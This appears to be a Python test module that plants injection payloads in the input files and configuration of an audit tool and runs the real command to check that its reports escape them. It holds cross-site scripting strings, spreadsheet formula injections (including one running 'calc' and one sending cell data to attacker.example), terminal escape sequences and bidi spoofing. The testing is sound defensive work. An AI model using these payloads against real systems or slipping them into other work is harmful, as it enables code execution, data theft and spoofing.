"""Payloads that attack what shows them, planted wherever text from outside can stand, and one real audit of them.

A new sink is one more function in the tests; a new payload one more line here.
"""

from __future__ import annotations

import csv
import html
import io
import json
import os
import subprocess
import sys
import zipfile
from collections.abc import Mapping, Sequence
from dataclasses import dataclass
from pathlib import Path

import xlsxwriter

from clm_audit.report.formats import FORMATS
from e2e.companies import steady_orders, write_orders

PAYLOADS: Mapping[str, str] = {
    "script": "<script>window.pwned=1;alert(1)</script>",
    "image": '"><img src=x onerror="window.pwned=1;alert(1)">',
    "handler": "' onmouseover='window.pwned=1' x='",
    "svg": "<svg/onload=window.pwned=1>",
    "frame": '<iframe src="https://attacker.example/"></iframe>',
    "style": "</style><script>window.pwned=1</script>",
    "comment": "<!-- -->]]><b>",
    "entity": "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "formula": "=cmd|' /C calc'!A0",
    "hyperlink": '=HYPERLINK("https://attacker.example/?q="&A1,"click")',
    "sum": "@SUM(1+1)*cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "blank_formula": " =1+1",
    "tab_formula": "\t=1+1",
    "cr_formula": "\r=1+1",
    "late_formula": "x;=1+1;@SUM(1)",
    "quote_formula": '",=1+1,"',
    "wide_formula": "＝1+1",
    "separators": 'a,b;c|d\te"f',
    "colour": "\x1b[31mred\x1b[0m",
    "clear": "\x1b[2J\x1b[H",
    "title": "\x1b]0;owned\x07",
    "link": "\x1b]8;;https://attacker.example/\x1b\\text\x1b]8;;\x1b\\",
    "c1": "\x9b31m\x85\x90",
    "bell": "\x07\x08\x7f",
    "bidi": "\u202egpj.exe\u2066x",
    "zero_width": "pay\u200bpal\u2060\ufeff",
    "lines": "one\u2028two\u2029three",
    "surrogate": "half\ud800",
    "markdown_link": "[click](javascript:alert(1))",
    "markdown_image": "![x](https://attacker.example/x.png)",
    "markdown_table": "a | b | `c` ~~d~~ **e**",
    "bare_link": "https://attacker.example/ www.attacker.example @everyone",
    "rich_markup": "[bold red]x[/bold red][/]",
    "template": "{{7*7}}{% for x in y %}${7*7}#{7*7}",
    "annotation": "::error file=x::owned%0A",
    "long": "W" * 400,
}  # fmt: skip
PLACES = ("file", "member", "sheet", "header", "label", "state", "campaign", "config")
DATED = "2023-06-05"
# what moves a cursor, hides, or is the markup of the library that draws
FOR_A_TERMINAL = [number for number, text in enumerate(PAYLOADS.values()) if not text.isprintable() or "[" in text]


def mark(place: str, number: int) -> str:
    """What tells where a payload was planted: it survives every escaping."""
    return f"zq{place}{number:02}zq"


def payload(place: str, number: int) -> str:
    """The payload with its mark behind it (a formula must come first)."""
    return list(PAYLOADS.values())[number] + mark(place, number)


def _writable(text: str, *, in_name: bool = False) -> str:
    """What a file can hold: UTF-8 has no half characters, names have no slash and 255 bytes."""
    text = text.replace("\ud800", "\udcff" if in_name else "")
    if not in_name:
        return text
    text = text.replace("/", "∕").replace("\0", "")
    return text if len(text.encode("utf-8", "surrogateescape")) < 240 else text[-200:]


@dataclass(frozen=True)
class Audited:
    """One audit of the planted company: what the command said, and what it wrote. ``coloured``: the check of a company
    with what is :data:`FOR_A_TERMINAL`, on a terminal, with what it says while it works."""

    terminal: str
    coloured: str
    errors: str
    html: Path
    json: Path
    markdown: Path
    rejects: Path
    junit: Path
    summary: Path
    pdf: Path
    xlsx: Path
    pptx: Path
    annotations: str


def plant(folder: Path, numbers: Sequence[int] = range(len(PAYLOADS))) -> Path:
    """Write the company with payloads everywhere; answers the configuration."""
    exports = folder / "exports"
    write_orders(exports / "orders.csv", steady_orders(3, customers=60))
    _customers(exports / "customers.csv")
    _campaigns(exports / "campaigns.csv", numbers)
    _states(exports / "states.csv", numbers)
    for number in numbers:
        name = _writable(payload("file", number), in_name=True)
        _orders(exports / f"orders {name}.csv", f"f{number}")
    _members(exports / "parts.zip", numbers)
    _sheets(exports / "book.xlsx", numbers)
    sources = [{"path": "exports"}, *_mapped(folder / "books", numbers)]
    config = {
        "title": _writable(payload("config", 0)),
        "go_live": "2024-01-01",
        "segment_by": ["region"],
        "sources": sources,
        "events": [{"date": "2024-03-04", "what": _writable(payload("config", number))} for number in numbers],
        "report": {"client": _writable(payload("config", 1)), "author": _writable(payload("config", 4))},
    }
    path = folder / "clm-audit.yaml"
    path.write_text(json.dumps(config, ensure_ascii=True), encoding="utf-8")
    return path


def _orders(path: Path, key: str) -> None:
    path.write_text(f"order,date,amount\n{key}a,{DATED},5.00\n{key}b,{DATED},oops\n", encoding="utf-8")


def _table(path: Path, rows: Sequence[Sequence[str]]) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("w", newline="", encoding="utf-8") as file:
        csv.writer(file, quoting=csv.QUOTE_ALL).writerows(rows)


def _customers(path: Path) -> None:
    rows = [("customer", "acquired", "region")]
    rows += [(f"c{n}", "2023-01-02", _writable(payload("label", n % 13 * 3))) for n in range(300)]
    _table(path, rows)


def _campaigns(path: Path, numbers: Sequence[int]) -> None:
    rows = [("campaign", "date", "sent", "delivered", "clicked")]
    rows += [(_writable(payload("campaign", n)), day, "100", "oops" if n % 5 else "99", "5") for n in numbers
             for day in (DATED, "2024-02-05")]  # fmt: skip
    _table(path, rows)


def _states(path: Path, numbers: Sequence[int]) -> None:
    rows = [("order", "date", "amount", "status")]
    _table(path, rows + [(f"s{n}", DATED, "5.00", _writable(payload("state", n))) for n in numbers])


def _mapped(folder: Path, numbers: Sequence[int]) -> list[dict[str, object]]:
    """A file a payload whose date column is called like it; the second row is bad, so its header is listed."""
    sources: list[dict[str, object]] = []
    for number in numbers:
        header = _writable(payload("header", number)).strip()
        _table(folder / f"{number}.csv", [(header, "Cost"), (DATED, "5.00"), ("never", "6.00")])
        mapping = {"fact": "spend", "date": header, "amount": "Cost"}
        sources.append({"path": f"books/{number}.csv", "map": mapping})
    return sources


def _members(path: Path, numbers: Sequence[int]) -> None:
    with zipfile.ZipFile(path, "w") as archive:
        for number in numbers:
            name = _writable(payload("member", number)).replace("/", "∕").replace("\\", "∖")
            archive.writestr(
                f"part {name}.csv", f"order,date,amount\nm{number}a,{DATED},5.00\nm{number}b,{DATED},oops\n"
            )


def _sheets(path: Path, numbers: Sequence[int]) -> None:
    """Names that no spreadsheet program allows are put in afterwards."""
    file = io.BytesIO()
    book = xlsxwriter.Workbook(file, {"in_memory": True})
    for number in numbers:
        sheet = book.add_worksheet(mark("sheet", number))
        sheet.write_row(0, 0, ("order", "date", "amount"))
        sheet.write_row(1, 0, (f"b{number}a", DATED, "5.00"))
        sheet.write_row(2, 0, (f"b{number}b", DATED, "oops"))
    book.close()
    with zipfile.ZipFile(file) as old, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as new:
        for info in old.infolist():
            text = old.read(info)
            if info.filename == "xl/workbook.xml":
                for number in numbers:
                    short = mark("sheet", number) + "".join(
                        char if char.isprintable() or char in "\u202e\u200b\u2028\x85" else "?"
                        for char in list(PAYLOADS.values())[number]
                    )
                    name = html.escape(_writable(short)).encode()
                    text = text.replace(mark("sheet", number).encode() + b'"', name + b'"')
            new.writestr(info.filename, text)


def audit(folder: Path) -> Audited:
    """Plant, and run the real command."""
    config = plant(folder)
    out = {name: folder / f"report.{name}" for name in FORMATS}
    options = [item for name, path in out.items() for item in (f"--{name}", str(path))]

    own = {"PATH": "/usr/bin:/bin", "PYTHONPATH": str(Path(__file__).resolve().parents[2]), "PYTHONUTF8": "1"}

    def run(*arguments: str, **env: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [sys.executable, "-m", "clm_audit", *arguments],
            cwd=folder, capture_output=True, encoding="utf-8", errors="surrogateescape", timeout=240, check=False,
            env=own | env,
        )  # fmt: skip

    done = run("compare", "-c", str(config), *options)
    if done.returncode not in (0, 4) or not out["html"].exists():  # 4: that many bad rows are not fit to judge
        raise AssertionError(f"exit {done.returncode}: {done.stderr[-3_000:]}")
    few = plant(folder / "few", FOR_A_TERMINAL)
    coloured = _at_a_terminal(["check", "-c", str(few)], few.parent, own | {"TERM": "xterm-256color"})
    annotations = run("report", str(out["json"]), "--format", "github")
    return Audited(
        done.stdout, coloured, done.stderr,
        out["html"], out["json"], out["md"], folder / "rejects.csv", out["junit"], out["github"], out["pdf"],
        out["xlsx"], out["pptx"], annotations.stdout,
    )  # fmt: skip


def _at_a_terminal(arguments: Sequence[str], folder: Path, env: Mapping[str, str]) -> str:
    """What a run writes when both of its outputs are a terminal: colours, progress and all."""
    ours, theirs = os.openpty()
    command = [sys.executable, "-m", "clm_audit", *arguments]
    with subprocess.Popen(command, cwd=folder, env=dict(env), stdout=theirs, stderr=theirs) as process:
        os.close(theirs)
        pieces = []
        try:
            while piece := os.read(ours, 65_536):
                pieces.append(piece)
        except OSError:  # so a terminal says on Linux that nobody is there any more
            pass
        process.wait(timeout=240)
    os.close(ours)
    return b"".join(pieces).decode("utf-8", "surrogateescape")
